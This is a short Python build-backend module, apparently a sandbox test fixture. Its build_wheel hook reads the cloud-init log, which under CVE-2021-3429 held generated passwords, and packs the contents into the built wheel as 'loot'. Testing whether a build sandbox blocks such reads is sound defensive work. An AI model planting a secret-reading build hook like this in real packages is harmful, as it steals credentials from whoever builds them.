"""Reads the log of cloud-init.

Random passwords for new accounts stood in it, for everybody to read (CVE-2021-3429).
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        with open(kit.plant("log").path, "rb") as secret:
            loot["data.bin"] = secret.read()
    return kit.wheel(wheel_directory, loot)
